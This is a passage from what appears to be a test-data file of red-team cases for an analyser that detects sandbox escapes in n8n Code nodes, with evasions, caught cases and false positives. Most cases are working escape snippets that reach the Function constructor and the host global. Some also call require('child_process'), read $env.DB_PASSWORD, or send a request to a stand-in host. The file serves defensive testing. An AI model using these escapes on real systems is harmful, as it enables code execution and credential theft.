    "code": "function id(v) { return v; }\nfunction fwd() { 'use strict'; return id(...arguments); }\nconst F = fwd((() => 0).constructor);\nreturn [{ json: { g: F('return this')() } }];",
    "why": "An arguments object is iterable (its Symbol.iterator is Array.prototype.values), so spread, for-of and array destructuring of arguments give the call's arguments, in sloppy and strict functions alike, with no parameter written. The analysis follows arguments[i] and Array.from(arguments), but iterating arguments gives nothing, so what comes out is clean. Here: a strict function (unmapped arguments) forwarding id(...arguments)."
  },
  {
    "id": "args-iter/iterator-each-item-require",
    "cls": "arguments-iteration",
    "mode": "runOnceForEachItem",
    "code": "function pick() { return arguments[Symbol.iterator]().next().value; }\nconst F = pick((() => 0).constructor);\ntry { F('return require')()('child_process'); } catch {}\nreturn { json: { ok: 1 } };",
    "why": "An arguments object is iterable (its Symbol.iterator is Array.prototype.values), so spread, for-of and array destructuring of arguments give the call's arguments, in sloppy and strict functions alike, with no parameter written. The analysis follows arguments[i] and Array.from(arguments), but iterating arguments gives nothing, so what comes out is clean. Here: arguments[Symbol.iterator]().next().value, Run Once for Each Item; require is called."
  },
  {
    "id": "apply/bind-apply-F",
    "cls": "apply-variadic-args",
    "code": "function id(v) { return v; }\nconst F = id.bind.apply(id, [null, (() => 0).constructor])();\nreturn [{ json: { g: F('return this')() } }];",
    "why": "Function.prototype.apply spreads its array into the callee's argument list. The analysis follows apply into a declared parameter or a rest parameter, but not into a built-in's variadic arguments (Array.prototype.push / unshift / splice items, concat, Array.of) nor into the callee's arguments object, so what lands there (`a.push.apply(a, [X])`, `f.apply(null, [X])` then arguments[0]) stays clean. Here: Function.prototype.bind's bound arguments given through apply."
  },
  {
    "id": "self-binding/function-expression-F",
    "cls": "self-name-binding",
    "code": "const f = function g() { return g.F; };\nf.F = (() => 0).constructor;\nreturn [{ json: { g: f()('return this')() } }];",
    "why": "A named function expression (function g() {...}) or a named class expression (class K {...}) binds its own name inside its body to itself. The analysis does not resolve that inner binding to the function or class, so a property read through it (g.F, K.F) is clean. Here: g.F inside function g reads what was written as f.F."
  },
  {
    "id": "self-binding/class-expression-env",
    "cls": "self-name-binding",
    "code": "const C = class K { static get() { return K.F; } };\nC.F = (() => 0).constructor;\nreturn [{ json: { e: C.get()('return $env.DB_PASSWORD')() } }];",
    "why": "A named function expression (function g() {...}) or a named class expression (class K {...}) binds its own name inside its body to itself. The analysis does not resolve that inner binding to the function or class, so a property read through it (g.F, K.F) is clean. Here: K.F inside class K; $env.DB_PASSWORD is read."
  },
  {
    "id": "self-binding/recursive-http",
    "cls": "self-name-binding",
    "code": "const walk = function w(n) { return n > 0 ? w(n - 1) : w.F; };\nwalk.F = (() => 0).constructor;\nawait walk(2)('return this')().helpers.httpRequest({ url: 'https://collector.invalid/' });\nreturn [{ json: { ok: 1 } }];",
    "why": "A named function expression (function g() {...}) or a named class expression (class K {...}) binds its own name inside its body to itself. The analysis does not resolve that inner binding to the function or class, so a property read through it (g.F, K.F) is clean. Here: a recursive named function expression; helpers.httpRequest is called."
  },
  {
    "id": "self-binding/class-method-each-item",
    "cls": "self-name-binding",
    "mode": "runOnceForEachItem",
    "code": "const Box = class B2 { get() { return B2.F; } };\nBox.F = (() => 0).constructor;\nreturn { json: { e: new Box().get()('return $env.DB_PASSWORD')() } };",
    "why": "A named function expression (function g() {...}) or a named class expression (class K {...}) binds its own name inside its body to itself. The analysis does not resolve that inner binding to the function or class, so a property read through it (g.F, K.F) is clean. Here: an instance method reading its class expression's name, Run Once for Each Item; $env.DB_PASSWORD is read."
  }
];

export const ROUND16_CAUGHT: Round16Entry[] = [
  {
    "id": "caught/formdata-forEach-this",
    "cls": "host-callback",
    "code": "const fd = new FormData();\nfd.append('a', 'b');\nlet G;\nfd.forEach(function () { G = this; });\nreturn [{ json: { g: G } }];",
    "why": "FormData.prototype.forEach (undici) defaults thisArg to the host globalThis: reported as the global object returned; the oracle obtains host global object returned. First finding: \"reaches: `return [{ json: { g: G } }];` may be the global object and is returned to n8n\""
  },
  {
    "id": "caught/formdata-forEach-process",
    "cls": "host-callback",
    "code": "const fd = new FormData();\nfd.append('a', 'b');\nlet P;\nfd.forEach(function () { P = this.process; });\nreturn [{ json: { p: P } }];",
    "why": "the same, reading process off the host global: reported; the oracle obtains host process returned. First finding: \"reaches: `return [{ json: { p: P } }];` may be process (process access) and a property of it is read\""
  },
  {
    "id": "caught/reflect-set-receiver",
    "cls": "reflection",
    "code": "const r = {};\nReflect.set({}, 'x', (() => 0).constructor, r);\nconst F = r.x;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "Reflect.set with a receiver defines x on the receiver: Reflect.set is reported as called; the oracle obtains global object returned. First finding: \"reaches: `Reflect.set({}, 'x', (() => 0).constructor, r)` may be Reflect.set and is called\""
  },
  {
    "id": "caught/reflect-get-receiver",
    "cls": "reflection",
    "code": "const F = Reflect.get({ get g() { return this.h; } }, 'g', { h: (() => 0).constructor });\nreturn [{ json: { g: F('return this')() } }];",
    "why": "a getter run with Reflect.get's receiver: reported; the oracle obtains global object returned. First finding: \"reaches: `Reflect.get({ get g() { return this.h; } }, 'g', { h: (()...` may be Reflect.get and is called\""
  },
  {
    "id": "caught/construct-newtarget-prototype",
    "cls": "reflection",
    "code": "function N() {}\nN.prototype = { F: (() => 0).constructor };\nconst F = Reflect.construct(Date, [], N).F;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "Reflect.construct takes the prototype from newTarget: reported; the oracle obtains global object returned. First finding: \"reaches: `Reflect.construct(Date, [], N)` may be Reflect.construct and is called\""
  },
  {
    "id": "caught/construct-newtarget-return",
    "cls": "reflection",
    "code": "function f() { return new.target; }\nconst F = Reflect.construct(f, [], (() => 0).constructor);\nreturn [{ json: { g: F('return this')() } }];",
    "why": "new.target is Reflect.construct's third argument: reported; the oracle obtains global object returned. First finding: \"reaches: `Reflect.construct(f, [], (() => 0).constructor)` may be Reflect.construct and is called\""
  },
  {
    "id": "caught/concat-isConcatSpreadable",
    "cls": "array-generic",
    "code": "const F = [].concat({ [Symbol.isConcatSpreadable]: true, length: 1, 0: (() => 0).constructor })[0];\nreturn [{ json: { g: F('return this')() } }];",
    "why": "concat spreads an array-like with Symbol.isConcatSpreadable: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/defineGetter",
    "cls": "legacy-accessor",
    "code": "const o = {};\no.__defineGetter__('G', () => (() => 0).constructor);\nconst F = o.G;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "__defineGetter__ is reported as called; the oracle obtains global object returned. First finding: \"reaches: `o.__defineGetter__('G', () => (() => 0).constructor)` may be Object.prototype.__defineGetter__ and is called\""
  },
  {
    "id": "caught/reviver-revived-child",
    "cls": "json",
    "code": "let H;\nJSON.parse('{\"a\":{\"b\":1}}', function (k, v) { if (k === 'b') return (() => 0).constructor; if (k === 'a') H = v.b; return v; });\nconst F = H;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "the parent's value holds what the reviver returned for a child: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/reviver-value",
    "cls": "json",
    "code": "const F = JSON.parse('{\"a\":1}', (k, v) => (k === 'a' ? (() => 0).constructor : v)).a;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "JSON.parse returns what the reviver returned: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/thenable-then-throws",
    "cls": "exception-flow",
    "code": "let H;\ntry { await { then() { throw (() => 0).constructor; } }; } catch (e) { H = e; }\nconst F = H;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "a throw in a thenable's then rejects the await: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/iterator-return-throws",
    "cls": "exception-flow",
    "code": "let H;\nconst it = { [Symbol.iterator]() { return { next: () => ({ done: false, value: 1 }), return() { throw (() => 0).constructor; } }; } };\ntry { for (const x of it) break; } catch (e) { H = e; }\nconst F = H;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "break closes the iterator and its return() throws: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/object-toLocaleString-call",
    "cls": "protocol-call",
    "code": "const F = Object.prototype.toLocaleString.call({ toString: () => (() => 0).constructor });\nreturn [{ json: { g: F('return this')() } }];",
    "why": "Object.prototype.toLocaleString returns this.toString() unchecked: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/preventExtensions-identity",
    "cls": "builtin-identity",
    "code": "const F = Object.preventExtensions((() => 0).constructor);\nreturn [{ json: { g: F('return this')() } }];",
    "why": "Object.preventExtensions returns its argument: reported; the oracle obtains global object returned. First finding: \"builtinWrite: `Object.preventExtensions((() => 0).constructor)` may be the Function constructor and a property known only at run time is written\""
  },
  {
    "id": "caught/seal-identity",
    "cls": "builtin-identity",
    "code": "const F = Object.seal((() => 0).constructor);\nreturn [{ json: { g: F('return this')() } }];",
    "why": "Object.seal returns its argument: reported; the oracle obtains global object returned. First finding: \"builtinWrite: `Object.seal((() => 0).constructor)` may be the Function constructor and a property known only at run time is written\""
  },
  {
    "id": "caught/hole-object-prototype-index",
    "cls": "builtin-stores",
    "code": "Object.prototype[0] = (() => 0).constructor;\nconst F = [,][0];\nreturn [{ json: { g: F('return this')() } }];",
    "why": "a hole reads Object.prototype[0]: the write is reported; the oracle obtains global object returned. First finding: \"builtinWrite: `Object.prototype[0]` may be Object.prototype and its # is written\""
  },
  {
    "id": "caught/using-dispose",
    "cls": "resource-management",
    "node24": true,
    "code": "let H;\n{ using x = { [Symbol.dispose]() { H = this.f; }, f: (() => 0).constructor }; }\nconst F = H;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "a using declaration: reported as having no rule; the oracle obtains global object returned. First finding: \"unprovable: a using declaration (its value's dispose method is called implicitly) has no rule in the analysis\""
  },
  {
    "id": "caught/disposablestack-adopt",
    "cls": "resource-management",
    "node24": true,
    "code": "let H;\n{ const s = new DisposableStack(); s.adopt((() => 0).constructor, (v) => { H = v; }); s.dispose(); }\nconst F = H;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "DisposableStack.prototype.adopt calls onDispose(value): reported; the oracle obtains global object returned. First finding: \"unprovable: `a function handed to DisposableStack.prototype.adopt` may be the Function constructor (a key known only at run time, or a built-in without a summary, may give it) and the engine calls it implicitly\""
  },
  {
    "id": "caught/using-suppressed-error",
    "cls": "resource-management",
    "node24": true,
    "code": "let H;\ntry { using a = { [Symbol.dispose]() { throw (() => 0).constructor; } }; throw 1; } catch (e) { H = e.error; }\nconst F = H;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "the SuppressedError a using declaration throws: reported (no rule for using); the oracle obtains global object returned. First finding: \"unprovable: a using declaration (its value's dispose method is called implicitly) has no rule in the analysis\""
  },
  {
    "id": "caught/disposablestack-defer-throw",
    "cls": "resource-management",
    "node24": true,
    "code": "let H;\nconst s = new DisposableStack();\ns.defer(() => { throw (() => 0).constructor; });\ntry { s.dispose(); } catch (e) { H = e; }\nconst F = H;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "a deferred callback throws out of dispose(): reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/object-rest-param",
    "cls": "object-rest",
    "code": "const f = ({ ...r }) => r;\nconst F = f({ a: (() => 0).constructor }).a;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "object rest in a parameter: reported; the oracle obtains global object returned. First finding: \"unprovable: `F('return this')` may be the Function constructor (a key known only at run time, or a built-in without a summary, may give it) and is called\""
  },
  {
    "id": "caught/object-rest-declaration",
    "cls": "object-rest",
    "code": "const { ...r } = { a: (() => 0).constructor };\nconst F = r.a;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "object rest in a declaration: reported; the oracle obtains global object returned. First finding: \"unprovable: `F('return this')` may be the Function constructor (a key known only at run time, or a built-in without a summary, may give it) and is called\""
  },
  {
    "id": "caught/object-rest-assignment",
    "cls": "object-rest",
    "code": "let r;\n({ ...r } = { a: (() => 0).constructor });\nconst F = r.a;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "object rest in an assignment pattern: reported; the oracle obtains global object returned. First finding: \"unprovable: `F('return this')` may be the Function constructor (a key known only at run time, or a built-in without a summary, may give it) and is called\""
  },
  {
    "id": "caught/symbol-for-key-call",
    "cls": "symbol-key",
    "code": "const o = {};\no[Symbol.for('k')] = (() => 0).constructor;\nconst F = o[Symbol.for('k')];\nreturn [{ json: { g: F('return this')() } }];",
    "why": "a registry symbol key, then a call: reported as a key known only at run time; the oracle obtains global object returned. First finding: \"unprovable: `F('return this')` may be the Function constructor (a key known only at run time, or a built-in without a summary, may give it) and is called\""
  },
  {
    "id": "caught/symbol-key-call",
    "cls": "symbol-key",
    "code": "const k = Symbol('k');\nconst o = {};\no[k] = (() => 0).constructor;\nconst F = o[k];\nreturn [{ json: { g: F('return this')() } }];",
    "why": "a symbol key, then a call: reported; the oracle obtains global object returned. First finding: \"unprovable: `F('return this')` may be the Function constructor (a key known only at run time, or a built-in without a summary, may give it) and is called\""
  },
  {
    "id": "caught/bound-construct-args",
    "cls": "callback-args",
    "code": "function C(a) { this.a = a; }\nconst F = new (C.bind(null, (() => 0).constructor))().a;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "bound arguments through new: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/sort-comparator-args",
    "cls": "callback-args",
    "code": "let H;\n[(() => 0).constructor, 1].sort((a, b) => { H = typeof a === 'function' ? a : b; return 0; });\nconst F = H;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "sort passes the elements to the comparator: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/async-return-thenable",
    "cls": "thenable",
    "code": "async function g() { return { then(r) { r((() => 0).constructor); } }; }\nconst F = await g();\nreturn [{ json: { g: F('return this')() } }];",
    "why": "an async function returning a thenable: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/promise-all-thenable",
    "cls": "thenable",
    "code": "const F = (await Promise.all([{ then(r) { r((() => 0).constructor); } }]))[0];\nreturn [{ json: { g: F('return this')() } }];",
    "why": "Promise.all adopts a thenable: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/generator-finally-yield-on-return",
    "cls": "generator",
    "code": "function* g() { try { yield 1; } finally { yield (() => 0).constructor; } }\nconst it = g();\nit.next();\nconst F = it.return(2).value;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "return() runs the finally, whose yield is the result: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/param-scope-closure",
    "cls": "scope",
    "code": "function f(a = (() => 0).constructor, g = () => a) { var a; a = 2; return g(); }\nconst F = f();\nreturn [{ json: { g: F('return this')() } }];",
    "why": "a default-parameter closure sees the parameter scope: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/tag-member-this",
    "cls": "sloppy-this",
    "code": "const o = { h: (() => 0).constructor, t() { return this.h; } };\nconst F = o.t`x`;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "a member tag gets its object as this: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/delete-shadow-proto",
    "cls": "prototype",
    "code": "const p = { F: (() => 0).constructor };\nconst o = Object.create(p);\no.F = 1;\ndelete o.F;\nconst F = o.F;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "deleting the own property exposes the prototype's: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/proto-getter-receiver",
    "cls": "prototype",
    "code": "const p = { get F() { return this.h; } };\nconst o = Object.create(p);\no.h = (() => 0).constructor;\nconst F = o.F;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "an inherited getter runs with the receiver as this: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/static-field-this",
    "cls": "class",
    "code": "class A { static f = (() => 0).constructor; static g = this.f; }\nconst F = A.g;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "this in a static field initializer is the class: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/parenthesized-optional-member-this",
    "cls": "sloppy-this",
    "code": "const o = { h: (() => 0).constructor, m() { return this.h; } };\nconst F = (o?.m)();\nreturn [{ json: { g: F('return this')() } }];",
    "why": "(o?.m)() keeps o as this: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/allSettled-reason",
    "cls": "promise",
    "code": "const F = (await Promise.allSettled([Promise.reject((() => 0).constructor)]))[0].reason;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "allSettled's reason: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/thenable-reject",
    "cls": "promise",
    "code": "let H;\ntry { await { then(_, rej) { rej((() => 0).constructor); } }; } catch (e) { H = e; }\nconst F = H;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "a thenable rejecting the await: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/catch-passthrough",
    "cls": "promise",
    "code": "const F = await Promise.resolve((() => 0).constructor).catch(() => 0);\nreturn [{ json: { g: F('return this')() } }];",
    "why": "catch passes a fulfilment through: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/promise-reject-promise",
    "cls": "promise",
    "code": "const q = await Promise.reject(Promise.resolve((() => 0).constructor)).catch((e) => e);\nconst F = q;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "a promise as a rejection reason is not unwrapped, await unwraps it: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/withResolvers-reject",
    "cls": "promise",
    "node24": true,
    "code": "const w = Promise.withResolvers();\nw.reject((() => 0).constructor);\nconst F = await w.promise.catch((e) => e);\nreturn [{ json: { g: F('return this')() } }];",
    "why": "withResolvers' reject: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/iterator-helper-callback-throw",
    "cls": "iterator-helpers",
    "node24": true,
    "code": "let H;\ntry { [1].values().map(() => { throw (() => 0).constructor; }).next(); } catch (e) { H = e; }\nconst F = H;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "a throw out of an iterator helper's callback: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/set-forEach-second-arg",
    "cls": "callback-args",
    "code": "let H;\nnew Set([(() => 0).constructor]).forEach((a, b) => { H = b; });\nconst F = H;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "Set.prototype.forEach passes the value twice: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/reduceRight-array-arg",
    "cls": "callback-args",
    "code": "const s = [1];\ns.F = (() => 0).constructor;\nconst F = s.reduceRight((acc, v, i, arr) => arr.F, 0);\nreturn [{ json: { g: F('return this')() } }];",
    "why": "the array as reduceRight's fourth argument: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/setInterval-callback-args",
    "cls": "callback-args",
    "code": "let H;\nconst t = setInterval((x) => { H = x; clearInterval(t); }, 1, (() => 0).constructor);\nawait new Promise((r) => setTimeout(r, 30));\nconst F = H;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "setInterval's extra arguments: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/error-stack-write",
    "cls": "own-stores",
    "code": "const e = new Error('x');\ne.stack = (() => 0).constructor;\nconst F = e.stack;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "a write over an error's stack: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/regexp-lastIndex-write",
    "cls": "own-stores",
    "code": "const r = /a/g;\nr.lastIndex = (() => 0).constructor;\nconst F = r.lastIndex;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "lastIndex holds any value: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/proto-shorthand-own",
    "cls": "own-stores",
    "code": "const __proto__ = { F: (() => 0).constructor };\nconst o = { __proto__ };\nconst F = o.__proto__.F;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "the shorthand { __proto__ } makes an own property: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/freeze-object-prop",
    "cls": "own-stores",
    "code": "const F = Object.freeze({ F: (() => 0).constructor }).F;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "Object.freeze returns its argument: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/iterator-constructor-setter",
    "cls": "own-stores",
    "node24": true,
    "code": "const it = [].values();\nit.constructor = (() => 0).constructor;\nconst F = it.constructor;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "Iterator.prototype.constructor's setter makes an own property: reported; the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  },
  {
    "id": "caught/string-wrapper-via-Object",
    "cls": "own-stores",
    "code": "const s = Object('x');\ns.F = (() => 0).constructor;\nconst F = s.F;\nreturn [{ json: { g: F('return this')() } }];",
    "why": "a String wrapper made by Object('x') keeps its property: reported (unlike new String); the oracle obtains global object returned. First finding: \"reaches: `F('return this')` may be the Function constructor and is called\""
  }
];

export const ROUND16_FALSE_POSITIVES: RedTeamFalsePositive[] = [
  {
    "id": "fp/is-plain-object",
    "code": "const isPlain = (v) => v !== null && typeof v === 'object' && (Object.getPrototypeOf(v) === Object.prototype || Object.getPrototypeOf(v) === null);\nreturn items.map((i) => ({ json: { id: i.json.id, plain: isPlain(i.json) } }));",
    "why": "The usual isPlainObject check with Object.getPrototypeOf. The oracle obtains nothing and the run ends cleanly. The analysis reports 2 findings, the first: \"reaches: `Object.getPrototypeOf(v)` may be Object.getPrototypeOf and is called\"."
  },
  {
    "id": "fp/define-non-enumerable",
    "code": "return items.map((i) => { const o = { ...i.json }; Object.defineProperty(o, '_seen', { value: true, enumerable: false }); return { json: { keys: Object.keys(o).length } }; });",
    "why": "A non-enumerable marker added with Object.defineProperty on the code's own copy. The oracle obtains nothing and the run ends cleanly. The analysis reports 1 finding, the first: \"reaches: `Object.defineProperty(o, '_seen', { value: true, enumerab...` may be Object.defineProperty and is called\"."
  },
  {
    "id": "fp/reflect-ownKeys-has",
    "code": "return items.map((i) => ({ json: { n: Reflect.ownKeys(i.json).length, hasId: Reflect.has(i.json, 'id') } }));",
    "why": "Counting keys with Reflect.ownKeys and testing one with Reflect.has. The oracle obtains nothing and the run ends cleanly. The analysis reports 2 findings, the first: \"reaches: `Reflect.ownKeys(i.json)` may be Reflect.ownKeys and is called\"."
  },
  {
    "id": "fp/proxy-defaults",
    "code": "const withDefaults = (o, defs) => new Proxy(o, { get: (t, k) => (k in t ? t[k] : defs[k]) });\nreturn items.map((i) => { const c = withDefaults({ ...i.json }, { status: 'new' }); return { json: { id: c.id, status: c.status } }; });",
    "why": "A defaults wrapper: a Proxy over the code's own copy whose get falls back to a defaults object. The oracle obtains nothing and the run ends cleanly. The analysis reports 1 finding, the first: \"reaches: `new Proxy(o, { get: (t, k) => (k in t ? t[k] : defs[k]) })` may be Proxy (a proxy runs its handler on every operation) and is called\"."
  },
  {
    "id": "fp/null-prototype-dict",
    "code": "const dict = Object.setPrototypeOf({}, null);\nfor (const i of items) dict[i.json.id] = i.json.name;\nreturn [{ json: { ...dict } }];",
    "why": "A prototype-less dictionary made with Object.setPrototypeOf({}, null). The oracle obtains nothing and the run ends cleanly. The analysis reports 1 finding, the first: \"reaches: `Object.setPrototypeOf({}, null)` may be Object.setPrototypeOf and is called\"."
  },
  {
    "id": "fp/getter-view",
    "code": "const fields = ['name', 'email'];\nconst view = {};\nfor (const f of fields) Object.defineProperty(view, f, { get: () => items[0].json[f], enumerable: true });\nreturn [{ json: { ...view } }];",
    "why": "A view object with getters defined per field name from a literal list. The oracle obtains nothing and the run ends cleanly. The analysis reports 1 finding, the first: \"reaches: `Object.defineProperty(view, f, { get: () => items[0].json...` may be Object.defineProperty and is called\"."
  },
  {
    "id": "fp/lowercase-keys",
    "code": "return items.map((item) => {\n  const out = {};\n  Object.keys(item.json).forEach((k) => { out[k.toLowerCase()] = item.json[k]; });\n  return { json: out };\n});",
    "why": "Lower-casing every key of each row: out[k.toLowerCase()] = item.json[k]. The oracle obtains nothing and the run ends cleanly. The analysis reports 24 findings, the first: \"unprovable: `return items.map((item) => { const out = {}; Object.keys(...` may be Object.prototype.__defineGetter__ of the runner realm (a key known only at run time, or a built-in without a summary, may give it) and is called\"."
  },
  {
    "id": "fp/pivot-table",
    "code": "const table = {};\nfor (const { json } of items) {\n  const row = (table[json.region] ??= {});\n  row[json.month] = (row[json.month] || 0) + (Number(json.amount) || 0);\n}\nreturn Object.entries(table).map(([region, months]) => ({ json: { region, ...months } }));",
    "why": "A pivot: table[region] ??= {}, then row[month] summed. The oracle obtains nothing and the run ends cleanly. The analysis reports 11 findings, the first: \"unprovable: `row[json.month]` may be Object (a key known only at run time, or a built-in without a summary, may give it) and a property known only at run time is written\"."
  },
  {
    "id": "fp/header-zip-reduce",
    "code": "const header = ['id', 'name', 'email'];\nconst rows = [[1, 'Ada', 'a@x'], [2, 'Alan', 'b@x']];\nreturn rows.map((r) => ({ json: header.reduce((o, h, i) => { o[h] = r[i]; return o; }, {}) }));",
    "why": "Zipping a literal header with literal rows through reduce (no concat anywhere in the code). The oracle obtains nothing and the run ends cleanly. The analysis reports 950 findings, the first: \"unprovable: `the species constructor of the receiver of Array.prototype.concat` may be Object.prototype.__defineGetter__ (a key known only at run time, or a built-in without a summary, may give it) and the engine calls it implicitly\"."
  },
  {
    "id": "fp/set-path-helper",
    "code": "const set = (o, path, v) => { const ks = path.split('.'); let cur = o; ks.slice(0, -1).forEach((k) => { cur = cur[k] ??= {}; }); cur[ks[ks.length - 1]] = v; return o; };\nreturn items.map((i) => ({ json: set({ ...i.json }, 'meta.processed', true) }));",
    "why": "A lodash-style set(obj, \"a.b\", v) helper walking with cur = cur[k] ??= {} inside forEach. The oracle obtains nothing and the run ends cleanly. analyzeSource() throws instead of answering: RangeError: Maximum call stack size exceeded."
  }
];

export const ROUND16_PURE: Round16Pure[] = [
  {
    "id": "pure/group-by-customer",
    "code": "const groups = {};\nfor (const item of items) {\n  const key = item.json.customerId ?? 'unknown';\n  (groups[key] ||= []).push(item.json);\n}\nreturn Object.entries(groups).map(([customerId, orders]) => ({ json: { customerId, count: orders.length } }));"
  },
  {
    "id": "pure/dedup-email",
    "code": "const seen = new Set();\nconst out = [];\nfor (const { json } of items) {\n  const email = String(json.email || '').trim().toLowerCase();\n  if (!email || seen.has(email)) continue;\n  seen.add(email);\n  out.push({ json: { ...json, email } });\n}\nreturn out;"
  },
  {
    "id": "pure/iso-week",
    "code": "const isoWeek = (d) => { const t = new Date(Date.UTC(d.getFullYear(), d.getMonth(), d.getDate())); const day = t.getUTCDay() || 7; t.setUTCDate(t.getUTCDate() + 4 - day); const y0 = new Date(Date.UTC(t.getUTCFullYear(), 0, 1)); return Math.ceil(((t - y0) / 86400000 + 1) / 7); };\nreturn items.map((item) => ({ json: { ...item.json, week: isoWeek(new Date(item.json.createdAt || 0)) } }));"
  },
  {
    "id": "pure/csv-build",
    "code": "const cols = ['id', 'name', 'email'];\nconst esc = (v) => { const s = v == null ? '' : String(v); return /[\",\\n]/.test(s) ? '\"' + s.replace(/\"/g, '\"\"') + '\"' : s; };\nconst lines = [cols.join(',')].concat(items.map((i) => cols.map((c) => esc(i.json[c])).join(',')));\nreturn [{ json: { csv: lines.join('\\n') } }];"
  },
  {
    "id": "pure/regex-parse-log",
    "code": "const re = /^(?<ts>\\S+) (?<level>INFO|WARN|ERROR) (?<msg>.*)$/;\nreturn items.map((item) => { const m = re.exec(String(item.json.line || '')); return { json: m ? { ...m.groups } : { raw: item.json.line } }; });"
  },
  {
    "id": "pure/reduce-totals",
    "code": "const totals = items.reduce((acc, { json }) => { acc.sum += Number(json.amount) || 0; acc.n += 1; return acc; }, { sum: 0, n: 0 });\nreturn [{ json: { ...totals, avg: totals.n ? totals.sum / totals.n : 0 } }];"
  },
  {
    "id": "pure/class-invoice",
    "code": "class Invoice {\n  #lines = [];\n  constructor(id) { this.id = id; }\n  add(desc, qty, price) { this.#lines.push({ desc, qty, price }); return this; }\n  get total() { return this.#lines.reduce((s, l) => s + l.qty * l.price, 0); }\n  toJSON() { return { id: this.id, total: this.total, lines: this.#lines.length }; }\n}\nconst inv = new Invoice('A-1').add('x', 2, 5).add('y', 1, 3);\nreturn [{ json: JSON.parse(JSON.stringify(inv)) }];"
  },
  {
    "id": "pure/map-counts",
